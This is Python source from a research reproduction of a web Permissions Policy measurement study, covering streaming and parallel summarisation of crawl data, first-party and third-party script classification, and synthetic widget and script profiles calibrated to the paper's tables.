    :meth:`~repro.crawler.storage.CrawlStore.iter_visits`) is indexed
    incrementally (:class:`~repro.analysis.index.IncrementalIndex`) and
    handed to all four analyses before the next one is read, so only one
    visit plus the memo tables and running aggregates are ever resident.
    The result is field-identical to ``summarize(dataset)`` over the same
    visits in the same (rank) order — every aggregate is additive and the
    float summation is exact, hence grouping-independent.

    The first argument also accepts a
    :class:`~repro.crawler.storage.CrawlStore` (anything with an
    ``iter_visits`` method).  With ``workers > 1`` — which *requires* a
    store — the stored rank range is partitioned into contiguous spans and
    fanned out to the warm process pool shared with the process crawl
    backend (:func:`repro.crawler.backends.warm_executor`); each worker
    streams its span through a worker-local index/analyses/tally, and the
    picklable partial states merge back in rank order, producing a
    summary field-identical to the serial pass.
    """
    store = visits if hasattr(visits, "iter_visits") else None
    if workers > 1:
        if store is None:
            raise ValueError(
                "summarize_streaming(workers>1) needs a CrawlStore source "
                "— worker processes stream their rank spans straight from "
                "the database file")
        return _summarize_parallel(store, registry=registry,
                                   workers=workers, mp_context=mp_context)
    if store is not None:
        visits = store.iter_visits()
    index = IncrementalIndex(registry=registry)
    usage = UsageAnalysis(index)
    delegation = DelegationAnalysis(index)
    headers = HeaderAnalysis(index)
    overpermission = OverPermissionAnalysis(index)
    tally = _DatasetTally()
    with TRACER.span("analysis.summarize_streaming"):
        for visit in visits:
            tally.add(visit)
            vi = index.add(visit)
            if vi is None:
                continue
            usage._aggregate_visit(vi)
            delegation._aggregate_visit(vi)
            headers._aggregate_visit(vi)
            overpermission._aggregate_visit(vi)
    return _finish_streaming(tally, usage=usage, delegation=delegation,
                             headers=headers,
                             overpermission=overpermission)


def _finish_streaming(tally: _DatasetTally, *, usage: UsageAnalysis,
                      delegation: DelegationAnalysis,
                      headers: HeaderAnalysis,
                      overpermission: OverPermissionAnalysis
                      ) -> MeasurementSummary:
    return _finish_summary(
        attempted_sites=tally.attempted,
        successful_sites=tally.successful,
        failure_summary=dict(tally.failures),
        top_level_documents=tally.top_level_documents,
        embedded_documents=tally.embedded_documents,
        sites_with_iframes=tally.sites_with_iframes,
        local_embedded_share=tally.local_embedded_share,
        average_seconds_per_site=tally.average_duration_seconds,
        usage=usage, delegation=delegation, headers=headers,
        overpermission=overpermission)


# ---------------------------------------------------------------------------
# Process-parallel summarize: rank spans fanned out to the warm worker pool.


@dataclass(frozen=True)
class _SummarizeJob:
    """One contiguous rank span for a summarize worker."""

    store_path: str
    min_rank: int
    max_rank: int
    span_index: int
    registry: "PermissionRegistry | None"
    trace: bool
    count: bool


@dataclass(frozen=True)
class _SummarizePartial:
    """A worker's additive state for one rank span."""

    span_index: int
    website_count: int
    top_level_documents: int
    tally: _DatasetTally
    usage: dict
    delegation: dict
    headers: dict
    overpermission: dict
    spans: tuple = ()
    metrics: "dict | None" = None


def _summarize_span(job: _SummarizeJob) -> _SummarizePartial:
    """Worker entry point: stream one rank span off the store and return
    the partial states.  Observability mirrors the parent per job, like
    the crawl chunk worker."""
    from repro.crawler.storage import CrawlStore
    from repro.obs import metrics as _metrics
    from pathlib import Path

    if job.trace:
        TRACER.clear()
        TRACER.enabled = True
    if job.count:
        _metrics.REGISTRY.reset()
        _metrics.enable_metrics()
    try:
        index = IncrementalIndex(registry=job.registry)
        usage = UsageAnalysis(index)
        delegation = DelegationAnalysis(index)
        headers = HeaderAnalysis(index)
        overpermission = OverPermissionAnalysis(index)
        tally = _DatasetTally()
        with CrawlStore(Path(job.store_path)) as store, \
                TRACER.span("analysis.summarize_span", span=job.span_index,
                            min_rank=job.min_rank, max_rank=job.max_rank):
            for visit in store.iter_visits(min_rank=job.min_rank,
                                           max_rank=job.max_rank):
                tally.add(visit)
                vi = index.add(visit)
                if vi is None:
                    continue
                usage._aggregate_visit(vi)
                delegation._aggregate_visit(vi)
                headers._aggregate_visit(vi)
                overpermission._aggregate_visit(vi)
        return _SummarizePartial(
            span_index=job.span_index,
            website_count=index.website_count,
            top_level_documents=index.top_level_documents,
            tally=tally,
            usage=usage._partial_state(),
            delegation=delegation._partial_state(),
            headers=headers._partial_state(),
            overpermission=overpermission._partial_state(),
            spans=tuple(TRACER.export_spans()) if job.trace else (),
            metrics=_metrics.REGISTRY.snapshot() if job.count else None,
        )
    finally:
        if job.trace:
            TRACER.enabled = False
            TRACER.clear()
        if job.count:
            _metrics.disable_metrics()
            _metrics.REGISTRY.reset()


def _summarize_parallel(store, *, registry: PermissionRegistry | None,
                        workers: int, mp_context: "str | None"
                        ) -> MeasurementSummary:
    """Fan contiguous rank spans out to the warm process pool and merge
    the partials in span order (== rank order, so every dict/Counter
    insertion order — and the tie-breaks downstream — match serial)."""
    from repro.crawler.backends import _mp_context as resolve_context
    from repro.crawler.backends import chunk_ranks, warm_executor
    from repro.obs import metrics as _metrics

    ranks = sorted(store.stored_ranks())
    # Two spans per worker amortizes uneven span cost; below that the
    # fan-out costs more than it parallelizes — fall back to serial.
    spans = chunk_ranks(ranks, workers * 2)
    if len(spans) < 2:
        return summarize_streaming(store.iter_visits(), registry=registry)
    store.flush()  # checkpoint the WAL so fresh worker readers see all rows
    jobs = [_SummarizeJob(store_path=str(store.path), min_rank=span[0],
                          max_rank=span[-1], span_index=index,
                          registry=registry, trace=TRACER.enabled,
                          count=_metrics.COUNTING)
            for index, span in enumerate(spans)]
    start_method = resolve_context(mp_context).get_start_method()
    executor = warm_executor(workers, start_method)

    index = IncrementalIndex(registry=registry)
    usage = UsageAnalysis(index)
    delegation = DelegationAnalysis(index)
    headers = HeaderAnalysis(index)
    overpermission = OverPermissionAnalysis(index)
    tally = _DatasetTally()
    with TRACER.span("analysis.summarize_parallel", spans=len(jobs),
                     workers=workers):
        futures = [executor.submit(_summarize_span, job) for job in jobs]
        for future in futures:  # span order, not completion order
            partial = future.result()
            if partial.spans:
                TRACER.ingest(
                    partial.spans,
                    pid=f"summarize-{partial.span_index:03d}")
            if partial.metrics is not None:
                _metrics.REGISTRY.merge(partial.metrics)
            index.merge_partial(partial.website_count,
                                partial.top_level_documents)
            tally.merge(partial.tally)
            usage._merge_partial(partial.usage)
            delegation._merge_partial(partial.delegation)
            headers._merge_partial(partial.headers)
            overpermission._merge_partial(partial.overpermission)
    return _finish_streaming(tally, usage=usage, delegation=delegation,
                             headers=headers,
                             overpermission=overpermission)


def _finish_summary(*, attempted_sites: int, successful_sites: int,
                    failure_summary: dict[str, int],
                    top_level_documents: int, embedded_documents: int,
                    sites_with_iframes: int, local_embedded_share: float,
                    average_seconds_per_site: float,
                    usage: UsageAnalysis, delegation: DelegationAnalysis,
                    headers: HeaderAnalysis,
                    overpermission: OverPermissionAnalysis
                    ) -> MeasurementSummary:
    adoption = headers.adoption()
    class_shares = headers.top_level_class_shares()
    directive_dist = delegation.directive_distribution()
    return MeasurementSummary(
        attempted_sites=attempted_sites,
        successful_sites=successful_sites,
        failure_summary=failure_summary,
        top_level_documents=top_level_documents,
        embedded_documents=embedded_documents,
        sites_with_iframes=sites_with_iframes,
        local_embedded_share=local_embedded_share,
        average_seconds_per_site=average_seconds_per_site,
        share_any_invocation=usage.share_any_invocation,
        share_invocation_top=usage.share_invocation_top,
        share_invocation_embedded=usage.share_invocation_embedded,
        share_any_functionality=usage.share_any_functionality,
        share_any_static=usage.share_any_static,
        top_third_party_share=usage.top_third_party_share,
        embedded_first_party_share=usage.embedded_first_party_share,
        share_sites_delegating=delegation.share_sites_delegating,
        share_sites_delegating_external=(
            delegation.share_sites_delegating_external),
        directive_share_default_src=directive_dist.get(
            DelegationDirectiveKind.DEFAULT_SRC, 0.0),
        directive_share_star=directive_dist.get(
            DelegationDirectiveKind.STAR, 0.0),
        pp_header_top_level_share=adoption.pp_top_level_share,
        pp_header_all_docs_share=adoption.pp_all_docs_share,
        fp_header_all_docs_share=adoption.fp_all_docs_share,
        pp_header_embedded_share=adoption.pp_embedded_share,
        header_class_disable_share=class_shares.get(
            DirectiveClass.DISABLE, 0.0),
        header_class_self_share=class_shares.get(DirectiveClass.SELF, 0.0),
        header_class_star_share=class_shares.get(DirectiveClass.STAR, 0.0),
        syntax_error_top_level_sites=headers.syntax_error_top_level_sites,
        semantic_issue_top_level_sites=headers.semantic_issue_top_level_sites,
        overpermission_affected_websites=(
            overpermission.total_affected_websites()),
    )
