"""First-/third-party classification.

Paper Section 4.1: "we define first-party scripts as those originating from
the same site as the context/document under analysis, and third-party
scripts as those from any other site.  In cases where the origin of a call
is absent from the stack trace or is an inline script, we classify the call
as first-party."  Note the frame-relative definition: a script inside an
embedded document is first-party when it shares the *embedded document's*
site, not the top-level site.
"""

from __future__ import annotations

from enum import Enum

from repro.crawler.records import CallRecord, FrameRecord
from repro.policy.origin import Origin, OriginParseError, site_of


class Party(str, Enum):
    FIRST = "first-party"
    THIRD = "third-party"


def script_party(script_url: "str | None", frame_site: str) -> Party:
    """Classify a script URL relative to the frame it runs in."""
    if script_url is None or not script_url:
        return Party.FIRST
    try:
        script_site = site_of(script_url)
    except OriginParseError:
        return Party.FIRST
    if not script_site:
        return Party.FIRST
    if not frame_site:
        # Local-scheme documents have no site; any URL-bearing script is
        # from elsewhere by definition.
        return Party.THIRD
    return Party.FIRST if script_site == frame_site else Party.THIRD


def classify_call_party(call: CallRecord, frame: FrameRecord) -> Party:
    """Classify one recorded call via its stack trace's script URL."""
    return script_party(call.script_url, frame.site)
