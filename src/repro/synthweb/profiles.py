"""Embedded-widget profiles.

Each profile describes one widely embedded third-party document the paper's
tables rank: how often it is embedded (Table 3), how often with permission
delegation and with which ``allow`` template (Tables 7, 8), its own response
headers (Section 4.3.2), and — crucially for the over-permission analysis —
which of the delegated permissions its scripts actually exhibit activity
for, dynamically or statically (Tables 10, 13).

Counts are the paper's; the generator scales them by its site count.  The
``used``/``static`` tuples are chosen so the *unused delegated permissions*
per widget reproduce Table 13 exactly (e.g. LiveChat's camera, microphone
and clipboard-read delegations show no activity anywhere, while its
clipboard-write and fullscreen delegations are backed by script source).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.browser.api import (
    allowed_features_call,
    feature_policy_allows_call,
    invoke_call,
    query_call,
)
from repro.browser.dom import DocumentContent
from repro.browser.scripts import ApiCall, Script, render_source
from repro.registry.features import DEFAULT_REGISTRY

#: Header template widely seen on ads/video iframes: User-Agent Client Hint
#: features declared with ``*`` — the paper's Section 4.3.2 finds exactly
#: these to be the nine most prevalent embedded directives.
CLIENT_HINTS_HEADER = (
    "ch-ua=*, ch-ua-arch=*, ch-ua-bitness=*, ch-ua-full-version=*, "
    "ch-ua-full-version-list=*, ch-ua-mobile=*, ch-ua-model=*, "
    "ch-ua-platform=*, ch-ua-platform-version=*"
)


def _static_source(permissions: tuple[str, ...], extra_apis: tuple[str, ...] = ()
                   ) -> str:
    """Script source containing matchable API strings for ``permissions``."""
    apis = [DEFAULT_REGISTRY.get(perm).api_patterns[0] for perm in permissions]
    apis.extend(extra_apis)
    return render_source(apis)


def build_widget_script(url: str, *,
                        dynamic: tuple[str, ...] = (),
                        static: tuple[str, ...] = (),
                        status_checks: tuple[str, ...] = (),
                        general_api: bool = False,
                        obfuscated: bool = False) -> Script:
    """A widget-internal script with the given behaviour.

    ``dynamic`` permissions are invoked on load; ``static`` permissions only
    appear in the source (interaction-gated); ``status_checks`` issue
    ``navigator.permissions.query`` calls; ``general_api`` adds a
    (deprecated-spelling) allowed-features retrieval.
    """
    operations: list[ApiCall] = []
    for perm in dynamic:
        operations.append(invoke_call(perm))
    for perm in status_checks:
        operations.append(query_call(perm))
    if general_api:
        operations.append(allowed_features_call(deprecated=True))
    source_perms = tuple(dict.fromkeys(dynamic + static + status_checks))
    extra = ("document.featurePolicy.allowedFeatures",) if general_api else ()
    for perm in static:
        operations.append(invoke_call(perm, requires_interaction=True))
    script = Script(url=url, source=_static_source(source_perms, extra),
                    operations=tuple(operations))
    if obfuscated:
        script = script.with_obfuscation()
    return script


@dataclass(frozen=True)
class WidgetProfile:
    """One embeddable third-party widget."""

    name: str
    site: str
    embed_path: str
    embed_count: int
    delegation_count: int
    allow_template: str | None
    category: str
    used_dynamic: tuple[str, ...] = ()
    used_static: tuple[str, ...] = ()
    status_checks: tuple[str, ...] = ()
    general_api: bool = False
    own_header: str | None = None
    third_party_script: str | None = None
    third_party_dynamic: tuple[str, ...] = ()
    #: Probability (per placement) that the 3p script is present.
    third_party_rate: float = 1.0
    #: Occasional extended delegation template (e.g. Facebook video embeds
    #: adding clipboard-write/web-share/encrypted-media) and its rate.
    allow_template_rare: str | None = None
    rare_template_rate: float = 0.0
    #: Nested re-delegation: probability that the widget document itself
    #: embeds a sub-frame and re-delegates (ads sub-syndication) — the
    #: uncontrollable nested delegation of paper Section 2.2.5.
    nested_embed_rate: float = 0.0
    nested_embed_src: str = "https://sub-syndication.example/frame"
    nested_embed_allow: str = "attribution-reporting; run-ad-auction"
    obfuscated: bool = False
    lazy_rate: float = 0.2

    @property
    def embed_url(self) -> str:
        return f"https://{self.site}{self.embed_path}"

    @property
    def delegation_rate(self) -> float:
        """P(allow attribute present | widget embedded)."""
        if self.embed_count <= 0:
            return 0.0
        return min(1.0, self.delegation_count / self.embed_count)

    def delegated_features(self) -> tuple[str, ...]:
        if not self.allow_template:
            return ()
        return tuple(part.split()[0] for part in self.allow_template.split(";")
                     if part.strip())

    def active_permissions(self) -> frozenset[str]:
        """Permissions the widget exhibits any activity for."""
        return frozenset(self.used_dynamic) | frozenset(self.used_static) \
            | frozenset(self.status_checks)

    def expected_unused_delegations(self) -> tuple[str, ...]:
        """The Table 13 prediction: delegated features without activity."""
        active = self.active_permissions()
        return tuple(f for f in self.delegated_features() if f not in active)

    def build_content(self, rng: random.Random) -> DocumentContent:
        """The widget document's scripts (its 1p script plus an optional 3p
        script), fresh per placement."""
        scripts = [build_widget_script(
            f"https://{self.site}/static/widget.js",
            dynamic=self.used_dynamic,
            static=() if self.obfuscated else self.used_static,
            status_checks=self.status_checks,
            general_api=self.general_api,
            obfuscated=self.obfuscated,
        )]
        if self.obfuscated and self.used_static:
            # Static functionality must stay string-matchable even when the
            # main bundle is minified; ship it as a plain helper script.
            scripts.append(build_widget_script(
                f"https://{self.site}/static/helper.js",
                static=self.used_static))
        if (self.third_party_script is not None
                and rng.random() < self.third_party_rate):
            scripts.append(build_widget_script(
                self.third_party_script, dynamic=self.third_party_dynamic))
        iframes = []
        if self.nested_embed_rate and rng.random() < self.nested_embed_rate:
            from repro.browser.dom import IframeElement
            slot = rng.randint(0, 999_999)
            iframes.append(IframeElement(
                src=f"{self.nested_embed_src}?slot={slot}",
                allow=self.nested_embed_allow))
        return DocumentContent(scripts=scripts, iframes=iframes)

    def headers(self) -> dict[str, str]:
        if self.own_header is None:
            return {}
        return {"Permissions-Policy": self.own_header}


_ADS_TEMPLATE = "attribution-reporting; run-ad-auction; join-ad-interest-group"


def default_widget_profiles() -> tuple[WidgetProfile, ...]:
    """The widget catalogue reproducing Tables 3, 7, 10 and 13."""
    return (
        WidgetProfile(
            name="Google", site="google.com", embed_path="/embed/",
            embed_count=53_227, delegation_count=2_634,
            allow_template="identity-credentials-get",
            category="session",
        ),
        WidgetProfile(
            name="YouTube", site="youtube.com", embed_path="/embed/v",
            embed_count=28_024, delegation_count=18_044,
            allow_template=("accelerometer; autoplay; clipboard-write; "
                            "encrypted-media; gyroscope; picture-in-picture"),
            category="multimedia",
            used_static=("autoplay", "clipboard-write", "encrypted-media",
                         "picture-in-picture", "fullscreen"),
            own_header=CLIENT_HINTS_HEADER,
        ),
        WidgetProfile(
            name="DoubleClick", site="doubleclick.net", embed_path="/ads/frame",
            embed_count=25_968, delegation_count=17_634,
            allow_template="attribution-reporting; run-ad-auction",
            category="ads",
            used_dynamic=("attribution-reporting", "run-ad-auction", "battery"),
            general_api=True,
            own_header=CLIENT_HINTS_HEADER,
            obfuscated=True,
            nested_embed_rate=0.30,
        ),
        WidgetProfile(
            name="GoogleSyndication", site="googlesyndication.com",
            embed_path="/safeframe/1",
            embed_count=25_299, delegation_count=20_279,
            allow_template=_ADS_TEMPLATE,
            category="ads",
            used_dynamic=("attribution-reporting", "run-ad-auction",
                          "join-ad-interest-group", "browsing-topics",
                          "battery"),
            status_checks=("browsing-topics",),
            general_api=True,
            own_header=CLIENT_HINTS_HEADER,
            obfuscated=True,
            nested_embed_rate=0.35,
        ),
        WidgetProfile(
            name="Facebook", site="facebook.com", embed_path="/plugins/page",
            embed_count=20_919, delegation_count=17_720,
            allow_template="autoplay",
            allow_template_rare=("autoplay; clipboard-write; "
                                 "encrypted-media; web-share"),
            rare_template_rate=0.12,
            category="social",
            used_static=("autoplay",),
            third_party_script="https://connect.facebook.net/sdk.js",
            third_party_dynamic=("storage-access",),
            third_party_rate=1.0,
        ),
        WidgetProfile(
            name="Yandex", site="yandex.com", embed_path="/metrica/frame",
            embed_count=18_868, delegation_count=310,
            allow_template="clipboard-write",
            category="analytics",
        ),
        WidgetProfile(
            name="Twitter", site="twitter.com", embed_path="/widgets/tweet",
            embed_count=17_844, delegation_count=600,
            allow_template="autoplay; picture-in-picture; fullscreen",
            category="social",
            used_static=("autoplay", "picture-in-picture", "fullscreen"),
            third_party_script="https://abs.twimg.com/widgets.js",
            third_party_dynamic=("storage-access",),
            third_party_rate=0.85,
        ),
        WidgetProfile(
            name="LiveChat", site="livechatinc.com", embed_path="/widget/chat",
            embed_count=13_776, delegation_count=13_734,
            allow_template=("clipboard-read; clipboard-write; autoplay; "
                            "microphone *; camera *; display-capture *; "
                            "picture-in-picture *; fullscreen *"),
            category="customer-support",
            used_static=("clipboard-write", "autoplay", "display-capture",
                         "picture-in-picture", "fullscreen"),
        ),
        WidgetProfile(
            name="Criteo", site="criteo.com", embed_path="/delivery/frame",
            embed_count=13_491, delegation_count=4_834,
            allow_template="attribution-reporting; join-ad-interest-group",
            category="ads",
            used_dynamic=("attribution-reporting", "join-ad-interest-group"),
            general_api=True,
            obfuscated=True,
            third_party_script="https://static.adsrvr.example/probe.js",
            third_party_dynamic=("battery",),
        ),
        WidgetProfile(
            name="Cloudflare", site="cloudflare.com",
            embed_path="/turnstile/frame",
            embed_count=13_395, delegation_count=13_244,
            allow_template=("cross-origin-isolated; "
                            "private-state-token-issuance"),
            category="other",
            used_dynamic=("private-state-token-issuance",),
            used_static=("cross-origin-isolated",),
            general_api=True,
        ),
        WidgetProfile(
            name="Stripe", site="stripe.com", embed_path="/elements/frame",
            embed_count=3_700, delegation_count=3_582,
            allow_template="payment",
            category="payment",
            used_dynamic=("payment",),
            status_checks=("payment",),
        ),
        WidgetProfile(
            name="Vimeo", site="vimeo.com", embed_path="/video/frame",
            embed_count=2_300, delegation_count=2_028,
            allow_template="autoplay; fullscreen; picture-in-picture; "
                           "encrypted-media",
            category="multimedia",
            used_static=("autoplay", "encrypted-media", "fullscreen",
                         "picture-in-picture"),
        ),
        # ---- long tail (Table 13) ------------------------------------------------
        WidgetProfile(
            name="YouTubeNoCookie", site="youtube-nocookie.com",
            embed_path="/embed/v",
            embed_count=1_100, delegation_count=982,
            allow_template=("accelerometer; autoplay; encrypted-media; "
                            "gyroscope; picture-in-picture"),
            category="multimedia",
            used_static=("autoplay", "encrypted-media",
                         "picture-in-picture"),
        ),
        WidgetProfile(
            name="Razorpay", site="razorpay.com", embed_path="/checkout/frame",
            embed_count=420, delegation_count=389,
            allow_template="payment; clipboard-write; camera; otp-credentials",
            category="payment",
            used_dynamic=("otp-credentials",),
        ),
        WidgetProfile(
            name="LaDesk", site="ladesk.com", embed_path="/chat/frame",
            embed_count=330, delegation_count=303,
            allow_template="microphone; camera; autoplay",
            category="customer-support",
            used_static=("autoplay",),
        ),
        WidgetProfile(
            name="Drift", site="driftt.com", embed_path="/chat/frame",
            embed_count=310, delegation_count=285,
            allow_template="encrypted-media; autoplay",
            category="customer-support",
            used_static=("autoplay",),
        ),
        WidgetProfile(
            name="WixApps", site="wixapps.net", embed_path="/app/frame",
            embed_count=250, delegation_count=246,
            allow_template="autoplay; camera; microphone; geolocation; vr",
            category="multi-purpose",
            used_static=("autoplay", "vr"),
        ),
        WidgetProfile(
            name="Qualified", site="qualified.com", embed_path="/chat/frame",
            embed_count=120, delegation_count=109,
            allow_template="microphone; camera; autoplay",
            category="customer-support",
            used_static=("autoplay",),
        ),
        WidgetProfile(
            name="Dailymotion", site="dailymotion.com", embed_path="/video/f",
            embed_count=115, delegation_count=101,
            allow_template=("accelerometer; gyroscope; clipboard-write; "
                            "web-share; encrypted-media; autoplay; "
                            "picture-in-picture; fullscreen"),
            category="multimedia",
            used_dynamic=("autoplay",),
            used_static=("picture-in-picture", "fullscreen"),
        ),
        WidgetProfile(
            name="TinyPass", site="tinypass.com", embed_path="/paywall/frame",
            embed_count=110, delegation_count=99,
            allow_template="payment", category="payment",
        ),
        WidgetProfile(
            name="Imbox", site="imbox.io", embed_path="/chat/frame",
            embed_count=100, delegation_count=93,
            allow_template="camera; microphone", category="customer-support",
        ),
        WidgetProfile(
            name="Piano", site="piano.io", embed_path="/paywall/frame",
            embed_count=100, delegation_count=92,
            allow_template="payment", category="payment",
        ),
        WidgetProfile(
            name="Appspot", site="appspot.com", embed_path="/app/frame",
            embed_count=98, delegation_count=91,
            allow_template="camera; microphone; geolocation",
            category="multi-purpose",
        ),
        WidgetProfile(
            name="FacebookNet", site="facebook.net", embed_path="/plugin/f",
            embed_count=88, delegation_count=81,
            allow_template="encrypted-media", category="social",
        ),
        WidgetProfile(
            name="VisitorAnalytics", site="visitor-analytics.io",
            embed_path="/widget/f",
            embed_count=84, delegation_count=78,
            allow_template="camera; microphone; geolocation",
            category="analytics",
        ),
        WidgetProfile(
            name="Glassix", site="glassix.com", embed_path="/chat/frame",
            embed_count=82, delegation_count=76,
            allow_template="camera; microphone; display-capture",
            category="customer-support",
        ),
        WidgetProfile(
            name="Giosg", site="giosg.com", embed_path="/chat/frame",
            embed_count=60, delegation_count=56,
            allow_template="camera; microphone; screen-wake-lock; "
                           "display-capture",
            category="customer-support",
        ),
        WidgetProfile(
            name="CloudflareStream", site="cloudflarestream.com",
            embed_path="/video/f",
            embed_count=60, delegation_count=55,
            allow_template="accelerometer; gyroscope; autoplay; "
                           "encrypted-media",
            category="multimedia",
            used_dynamic=("autoplay", "encrypted-media"),
        ),
        WidgetProfile(
            name="MediaDelivery", site="mediadelivery.net",
            embed_path="/video/f",
            embed_count=60, delegation_count=55,
            allow_template="accelerometer; gyroscope; autoplay; "
                           "encrypted-media",
            category="multimedia",
            used_dynamic=("autoplay", "encrypted-media"),
        ),
        WidgetProfile(
            name="SocialMiner", site="socialminer.com", embed_path="/chat/f",
            embed_count=58, delegation_count=54,
            allow_template="clipboard-read", category="customer-support",
        ),
        WidgetProfile(
            name="Infobip", site="infobip.com", embed_path="/chat/f",
            embed_count=50, delegation_count=46,
            allow_template="camera; microphone", category="customer-support",
        ),
        WidgetProfile(
            name="Kenyt", site="kenyt.ai", embed_path="/chat/f",
            embed_count=49, delegation_count=45,
            allow_template="camera; microphone", category="customer-support",
        ),
        WidgetProfile(
            name="Vidyard", site="vidyard.com", embed_path="/video/f",
            embed_count=48, delegation_count=44,
            allow_template="camera; microphone; clipboard-write; "
                           "display-capture; autoplay",
            category="multimedia",
            used_dynamic=("autoplay",),
        ),
        WidgetProfile(
            name="JotForm", site="jotform.com", embed_path="/form/f",
            embed_count=36, delegation_count=33,
            allow_template="camera; geolocation; microphone",
            category="multi-purpose",
        ),
        WidgetProfile(
            name="Wolkvox", site="wolkvox.com", embed_path="/chat/f",
            embed_count=36, delegation_count=33,
            allow_template="encrypted-media; camera; microphone; "
                           "geolocation; display-capture; midi",
            category="customer-support",
        ),
        WidgetProfile(
            name="Typeform", site="typeform.com", embed_path="/form/f",
            embed_count=34, delegation_count=31,
            allow_template="camera; microphone", category="multi-purpose",
        ),
        WidgetProfile(
            name="Mitel", site="mitel.io", embed_path="/chat/f",
            embed_count=33, delegation_count=30,
            allow_template="camera; geolocation; microphone",
            category="customer-support",
        ),
        WidgetProfile(
            name="VideoDelivery", site="videodelivery.net",
            embed_path="/video/f",
            embed_count=33, delegation_count=30,
            allow_template="accelerometer; gyroscope; autoplay",
            category="multimedia",
            used_dynamic=("autoplay",),
        ),
        WidgetProfile(
            name="Channels", site="channels.app", embed_path="/chat/f",
            embed_count=33, delegation_count=30,
            allow_template="encrypted-media; midi",
            category="customer-support",
        ),
    )


def profiles_by_site(profiles: tuple[WidgetProfile, ...] | None = None
                     ) -> dict[str, WidgetProfile]:
    pool = profiles if profiles is not None else default_widget_profiles()
    return {profile.site: profile for profile in pool}
