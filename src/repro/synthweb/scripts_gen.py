"""Script archetypes for top-level documents.

The paper finds that permission-related activity in top-level documents is
overwhelmingly third-party (98.32 % of invoking contexts, Section 4.1.1):
tag managers and consent platforms retrieving the allowed-feature list, ads
scripts checking ``attribution-reporting`` and Topics, push-notification
providers, and fingerprinting scripts touching ``battery``.  First-party
activity concentrates on ``geolocation`` and WebAuthn.  Static-only
functionality (Table 6) comes from share buttons, store locators,
notification banners and video players whose calls hide behind user
interaction.

Each :class:`ScriptArchetype` below models one of these script families
with an inclusion rate derived from the paper's counts.  Because a site
that carries one third-party ecosystem script usually carries several, the
generator draws two coupled *gates* first (dynamic third-party ecosystem,
static-rich functionality) and applies conditional rates within them —
without the gates, independent draws would overshoot the paper's union
percentages (40.65 % any invocation, 48.52 % any functionality).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.browser.api import (
    allowed_features_call,
    invoke_call,
    query_call,
)
from repro.browser.scripts import ApiCall, Script, render_source
from repro.registry.features import DEFAULT_REGISTRY

#: P(site participates in the third-party script ecosystem).  Tuned so the
#: union of conditional archetype draws lands on the paper's 39.41 %
#: top-level invocation share.
DYNAMIC_GATE_RATE = 0.62
#: P(static-rich | dynamic gate) and P(static-rich | no dynamic gate); the
#: coupling keeps the any-functionality union at the paper's 48.52 %.
STATIC_GATE_GIVEN_DYNAMIC = 0.42
STATIC_GATE_GIVEN_PLAIN = 0.18

#: Gate mix for interaction-locked static operations (Appendix A.3): what a
#: click unlocks, what needs navigating deeper, what sits behind a login or
#: paywall, and what is dead code that never runs.
STATIC_GATE_MIX: tuple[tuple[str, float], ...] = (
    ("click", 0.55),
    ("navigation", 0.20),
    ("login", 0.15),
    ("dead", 0.10),
)


@dataclass(frozen=True)
class ScriptArchetype:
    """One script family placed on top-level documents.

    Attributes:
        name: Identifier (also used to derive per-site script URLs).
        rate: Inclusion probability.  Interpreted *conditionally on the
            dynamic gate* for third-party dynamic archetypes
            (``gated=True``) and unconditionally otherwise.
        url: Script URL for third-party archetypes; ``None`` builds a
            first-party URL on the site being generated.
        dynamic: Permissions invoked on load.
        static: Permissions whose APIs appear in source behind interaction.
        status_checks: Permissions checked via ``permissions.query``.
        general_api: Retrieve the allowed-features list.
        deprecated_general: Use the legacy Feature-Policy spelling (the
            overwhelmingly common case, Section 4.1.1).
        obfuscated: Strip matchable strings from the source.
        gated: Whether ``rate`` is conditional on the dynamic gate.
    """

    name: str
    rate: float
    url: str | None = None
    dynamic: tuple[str, ...] = ()
    static: tuple[str, ...] = ()
    status_checks: tuple[str, ...] = ()
    general_api: bool = False
    deprecated_general: bool = True
    obfuscated: bool = False
    gated: bool = True

    @property
    def first_party(self) -> bool:
        return self.url is None

    def build(self, site_host: str, rng: random.Random) -> Script:
        """Instantiate the archetype for one site."""
        operations: list[ApiCall] = []
        dead_apis: list[str] = []
        source_apis: list[str] = []
        for perm in self.dynamic:
            operations.append(invoke_call(perm))
            source_apis.append(DEFAULT_REGISTRY.get(perm).api_patterns[0])
        for perm in self.status_checks:
            operations.append(query_call(perm))
            source_apis.append("navigator.permissions.query")
            source_apis.append(DEFAULT_REGISTRY.get(perm).api_patterns[0])
        if self.general_api:
            operations.append(
                allowed_features_call(deprecated=self.deprecated_general))
            source_apis.append(
                "document.featurePolicy.allowedFeatures"
                if self.deprecated_general
                else "document.permissionsPolicy.allowedFeatures")
        for perm in self.static:
            api = DEFAULT_REGISTRY.get(perm).api_patterns[0]
            source_apis.append(api)
            gate = _draw_gate(rng)
            if gate == "dead":
                dead_apis.append(api)
            else:
                operations.append(invoke_call(
                    perm, requires_interaction=True, interaction_gate=gate))
        url = self.url if self.url is not None else (
            f"https://{site_host}/js/{self.name}.js")
        script = Script(url=url, source=render_source(source_apis),
                        operations=tuple(operations),
                        dead_code_apis=tuple(dead_apis))
        if self.obfuscated:
            script = script.with_obfuscation()
        return script


def _draw_gate(rng: random.Random) -> str:
    roll = rng.random()
    cumulative = 0.0
    for gate, weight in STATIC_GATE_MIX:
        cumulative += weight
        if roll < cumulative:
            return gate
    return "click"


def default_archetypes() -> tuple[ScriptArchetype, ...]:
    """The archetype catalogue with rates targeting Tables 4–6.

    Third-party dynamic rates are conditional on the 0.46 dynamic gate;
    e.g. the tag manager's 0.72 conditional rate yields ≈ 0.33 of all sites,
    matching the dominance of General Permission APIs (432,795 top-level
    contexts).  First-party and static rates are unconditional.
    """
    return (
        # -- third-party dynamic (rates conditional on the dynamic gate) -----
        ScriptArchetype(
            "gtm", 0.70, url="https://www.googletagmanager.com/gtm.js",
            general_api=True, obfuscated=True),
        ScriptArchetype(
            "consent", 0.13, url="https://cdn.consentframework.example/cmp.js",
            general_api=True, obfuscated=True),
        ScriptArchetype(
            "adsbygoogle", 0.25,
            url="https://pagead2.googlesyndication.com/adsbygoogle.js",
            status_checks=("attribution-reporting",), general_api=True,
            obfuscated=True),
        ScriptArchetype(
            "topics-check", 0.08,
            url="https://securepubads.doubleclick.net/topics.js",
            status_checks=("browsing-topics",), obfuscated=True),
        ScriptArchetype(
            "topics-invoke", 0.028,
            url="https://securepubads.doubleclick.net/tag.js",
            dynamic=("browsing-topics",), obfuscated=True),
